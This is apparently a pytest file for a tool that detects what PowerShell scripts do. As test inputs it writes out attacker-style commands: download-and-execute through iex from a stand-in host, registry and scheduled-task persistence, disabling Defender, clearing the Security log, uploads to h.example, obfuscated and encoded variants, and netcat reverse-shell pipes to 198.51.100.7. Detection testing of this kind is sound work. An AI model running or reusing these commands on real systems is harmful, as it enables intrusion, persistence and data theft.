"""PowerShell: plain and disguised."""

import base64
import time

import pytest

from hinomi.evidence.scripts import analyse


def rows(text):
    data = text if isinstance(text, bytes) else text.encode()
    return analyse("/C/x/a.ps1", data, language="powershell").actions


def told(text):
    return [(a.action, a.object, a.detail) for a in rows(text)]


def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


ONE = {
    "Invoke-WebRequest -Uri http://h.example/a -OutFile C:\\a.zip": ("downloads", "http://h.example/a", "C:\\a.zip"),
    "iwr http://h.example/a -OutF C:\\a.zip": ("downloads", "http://h.example/a", "C:\\a.zip"),
    "(New-Object Net.WebClient).DownloadFile('http://h.example/a','C:\\a.exe')": ("downloads", "http://h.example/a", "C:\\a.exe"),
    "$w = New-Object System.Net.WebClient; $u='http://h.exam'+'ple/a'; $d = $w.DownloadString($u)": (
        "downloads", "http://h.example/a", None,
    ),
    "Start-BitsTransfer -Source http://h.example/a -Destination C:\\a": ("downloads", "http://h.example/a", "C:\\a"),
    "certutil -urlcache -split -f http://h.example/a C:\\a": ("downloads", "http://h.example/a", "C:\\a"),
    "Expand-Archive -LiteralPath C:\\a.zip -DestinationPath C:\\b": ("unpacks", "C:\\a.zip", "C:\\b"),
    "[IO.Compression.ZipFile]::ExtractToDirectory('C:\\a.zip','C:\\b')": ("unpacks", "C:\\a.zip", "C:\\b"),
    "Start-Process C:\\b\\o.exe -ArgumentList '-k' -WindowStyle Hidden": ("starts", "C:\\b\\o.exe", "-k"),
    "& 'C:\\b\\o.exe' -k 1": ("starts", "C:\\b\\o.exe", None),
    "[Diagnostics.Process]::Start('C:\\b\\o.exe')": ("starts", "C:\\b\\o.exe", None),
    "$p = 'C:\\b'; & \"$p\\o.exe\"": ("starts", "C:\\b\\o.exe", None),
    "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name k -Value C:\\k.exe": (
        "persists", "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\k", "C:\\k.exe",
    ),
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v k /t REG_SZ /d C:\\k.exe /f": (
        "persists", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\k", "C:\\k.exe",
    ),
    "schtasks /create /tn k /tr C:\\k.exe /sc onlogon": ("persists", "scheduled task k", "C:\\k.exe"),
    "New-Service -Name k -BinaryPathName C:\\k.exe": ("persists", "service k", "C:\\k.exe"),
    "Copy-Item k.exe \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\k.exe\"": (
        "persists", "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\k.exe", "k.exe",
    ),
    "Stop-Service -Name Guard -Force": ("stops-service", "Guard", "stop-service"),
    "sc.exe stop Guard": ("stops-service", "guard", "sc"),
    "taskkill /f /im guard.exe": ("kills", "guard.exe", "taskkill"),
    "Set-MpPreference -DisableRealtimeMonitoring $true": ("stops-service", "Windows Defender", "disablerealtimemonitoring"),
    "netsh wlan show profiles": ("collects", "wireless-networks", "netsh wlan"),
    "systeminfo > C:\\o.txt": ("collects", "system", "systeminfo"),
    "Get-WmiObject Win32_PhysicalMedia": ("collects", "disk-serial", "get-wmiobject"),
    "Invoke-RestMethod -Uri http://h.example/in -Method Post -Body $o": ("uploads", "http://h.example/in", "$o"),
    "(New-Object Net.WebClient).UploadFile('ftp://h.example/in','C:\\o.txt')": ("uploads", "ftp://h.example/in", "C:\\o.txt"),
    "$c = New-Object Net.Sockets.TCPClient('198.51.100.7',443)": ("connects", "198.51.100.7:443", "TCPClient"),
    "Remove-Item C:\\a.exe": ("deletes", "C:\\a.exe", None),
    "'x' | Out-File C:\\a.txt": ("writes", "C:\\a.txt", "x"),
    "Start-Sleep -Milliseconds 1500": ("sleeps", "1.5", None),
    "wevtutil cl Security": ("clears-log", "cl", None),
}  # fmt: skip


@pytest.mark.parametrize("text", ONE)
def test_single_actions(text):
    assert ONE[text] in told(text)


HIDDEN = [
    "iex 'Start-Process C:\\o.exe'",
    "$x = 'Start-Pro' + 'cess C:\\o.exe'; Invoke-Expression $x",
    "& ('ie'+'x') 'Start-Process C:\\o.exe'",
    "iex ('{1}{0}' -f 'cess C:\\o.exe','Start-Pro')",
    "iex ('S','tart-Process C:\\o.exe' -join '')",
    "iex (-join ('Start-','Process C:\\o.exe'))",
    "iex ('Start-XXXcess C:\\o.exe'.Replace('XXX','Pro'))",
    "iex ('Start-XXXcess C:\\o.exe' -replace 'XXX','Pro')",
    "iex ([string][char]83 + 'tart-Process C:\\o.exe')",
    "iex (([char[]](83,116,97,114,116) -join '') + '-Process C:\\o.exe')",
    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
    + base64.b64encode(b"Start-Process C:\\o.exe").decode()
    + "')))",
    "powershell -nop -w hidden -enc " + encoded("Start-Process C:\\o.exe"),
    "powershell.exe -EncodedCommand " + encoded("iex 'Start-Process C:\\o.exe'"),
    'powershell -c "Start-Process C:\\o.exe"',
    "St`art-Pr`ocess C:\\o.exe",
    "&{ Start-Process C:\\o.exe }",
    "Invoke-Command -ScriptBlock { Start-Process C:\\o.exe }",
    "function Go($p) { Start-Process $p }\nGo C:\\o.exe",
    "foreach ($p in 'C:\\o.exe','C:\\q.exe') { Start-Process $p }",
    "try { Start-Process C:\\o.exe } catch {}",
    "$a = 'exe.o\\:C'; Start-Process ($a[6..0] -join '').Replace('C:\\o','C:\\o')\nStart-Process C:\\o.exe",
    'cmd /c "start C:\\o.exe"',
]


@pytest.mark.parametrize("text", HIDDEN)
def test_disguised_code_is_read(text):
    assert "C:\\o.exe" in [a.object for a in rows(text) if a.action == "starts"]


CODE = {
    "iex (New-Object Net.WebClient).DownloadString('http://h.example/a')": "download",
    "(iwr http://h.example/a).Content | iex": "download",
    "$r = Invoke-RestMethod http://h.example/a; iex $r": "download",
    "[Reflection.Assembly]::Load([Convert]::FromBase64String($b))": "decoded",
    "iex $x": "variable",
    "powershell -enc " + encoded("echo hi"): "decoded",
}


@pytest.mark.parametrize("text", CODE)
def test_code_made_at_run_time(text):
    assert CODE[text] in [a.object for a in rows(text) if a.action == "executes-code"]


WATCH = [
    "if (-not (Get-Process otter -ErrorAction SilentlyContinue)) { Start-Process C:\\otter.exe }",
    "if (!(Get-Process -Name otter)) { Start-Process C:\\otter.exe }",
    "$p = Get-Process otter; if ($p -eq $null) { Start-Process C:\\otter.exe }",
    "$p = Get-Process otter; if ($null -eq $p) { Start-Process C:\\otter.exe }",
    "$p = Get-Process | Where-Object { $_.Name -eq 'otter' }\nif (-not $p) { Start-Process C:\\otter.exe }",
    "if ((Get-Process otter).Count -eq 0) { Start-Process C:\\otter.exe }",
    "if (Get-Process otter) { exit }\nStart-Process C:\\otter.exe",
    "if (Get-Process otter) { } else { Start-Process C:\\otter.exe }",
]


@pytest.mark.parametrize("text", WATCH)
def test_watchdogs(text):
    action = next(a for a in rows(text) if a.action == "starts")
    assert (action.guard_kind, action.guard_object) == ("not-running", "otter")


@pytest.mark.parametrize(
    "loop",
    [
        "while ($true) { BODY }",
        "while (1) { BODY }",
        "for (;;) { BODY }",
        "do { BODY } while ($true)",
        "do { BODY } until ($false)",
    ],
)
@pytest.mark.parametrize(
    "sleep", ["Start-Sleep 30", "Start-Sleep -Seconds 30", "sleep -s 30", "Start-Sleep -Milliseconds 30000"]
)
def test_loops(loop, sleep):
    action = next(a for a in rows(loop.replace("BODY", f"& C:\\o.exe; {sleep}")) if a.action == "starts")
    assert (action.in_loop, action.loop_interval) == (True, 30.0)


def test_counted_loops_are_no_loops():
    assert not rows("for ($i=0; $i -lt 3; $i++) { & C:\\o.exe; sleep 1 }")[0].in_loop


def test_utf16_is_read():
    assert ("starts", "C:\\o.exe", None) in told("Start-Process C:\\o.exe".encode("utf-16"))


def test_nesting_of_encoded_code_is_bounded():
    code = "Start-Process C:\\o.exe"
    for _ in range(6):
        code = "powershell -enc " + encoded(code)
    found = analyse("/a.ps1", code.encode(), language="powershell")
    assert found.script.truncated
    assert [a.object for a in found.actions if a.action == "starts"] == []


@pytest.mark.parametrize(
    "text",
    [
        "& /bin/bash -i", "&/bin/bash -i", "/bin/bash -i", "$c | /bin/bash -i", "if ($c) { /bin/bash -i }",
        'cmd /c "type C:\\a.txt | /bin/bash -i"', "cmd.exe /d /c '/bin/bash -i'", 'cmd /c "nc h.example 443 | /bin/bash -i"',
    ],
)  # fmt: skip
def test_a_bare_unix_path_is_a_program(text):
    assert ("starts", "/bin/bash", None) in told(text)


def test_every_stage_of_a_pipe_inside_cmd():
    found = told('cmd /c "nc 198.51.100.7 443 | /bin/bash -i | nc 198.51.100.7 444"')
    assert found == [
        ("starts", "nc", "198.51.100.7 443"), ("starts", "/bin/bash", None), ("starts", "nc", "198.51.100.7 444"),
    ]  # fmt: skip


def test_paths_in_strings_and_comments_are_no_programs():
    text = "# | /bin/bash -i\n<#\n/bin/bash -i\n#>\n$t = @'\n/bin/bash -i\n'@\n$u = 'a;/bin/sh b'\n& /opt/k/o -d\n"
    assert told(text) == [("starts", "/opt/k/o", None)]
    assert rows(text)[0].line == 9


@pytest.mark.parametrize("piece", ["@'x", '@"x', "<#", "'", '"`', "| " * 30, "|/a/b", "/a" * 30, "& & "])
def test_many_odd_heads_are_read_in_bounded_time(piece):
    started = time.process_time()
    rows("& /bin/bash -i\n" + piece * (20_000 // len(piece)))
    assert time.process_time() - started < 3
